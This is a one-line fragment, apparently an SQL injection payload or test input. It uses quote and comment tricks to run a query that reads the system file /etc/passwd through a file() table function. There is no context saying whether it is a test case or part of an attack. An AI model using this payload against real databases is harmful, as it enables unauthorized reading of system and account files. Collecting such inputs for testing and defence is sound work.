SELECT 1 // ' 
FROM file('/etc/passwd') --'